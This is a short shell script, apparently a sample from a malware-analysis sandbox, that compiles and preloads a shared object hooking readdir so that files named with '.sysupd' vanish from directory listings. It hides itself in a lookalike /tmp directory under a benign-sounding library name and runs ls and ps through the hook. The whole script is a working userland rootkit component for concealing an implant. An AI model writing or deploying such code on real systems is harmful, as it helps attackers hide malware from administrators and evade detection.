#!/bin/sh
# SPDX-License-Identifier: MIT
# Hooks a program's library calls: a small shared object that hides the
# implant's files from readdir, preloaded into a program through
# LD_PRELOAD.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
dir=/tmp/.ICE-unix-
mkdir -p "$dir"
cat > "$dir/hook.c" <<'SRC'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d)
{
	static struct dirent *(*real)(DIR *);
	struct dirent *e;
	if (!real) real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	do e = real(d); while (e && strstr(e->d_name, ".sysupd"));
	return e;
}
SRC
gcc -shared -fPIC -O2 -o "$dir/libaudit.so.1" "$dir/hook.c" -ldl 2>/dev/null
env LD_PRELOAD="$dir/libaudit.so.1" ls -la /tmp > /dev/null
LD_PRELOAD="$dir/libaudit.so.1" ps aux > /dev/null
exit 0
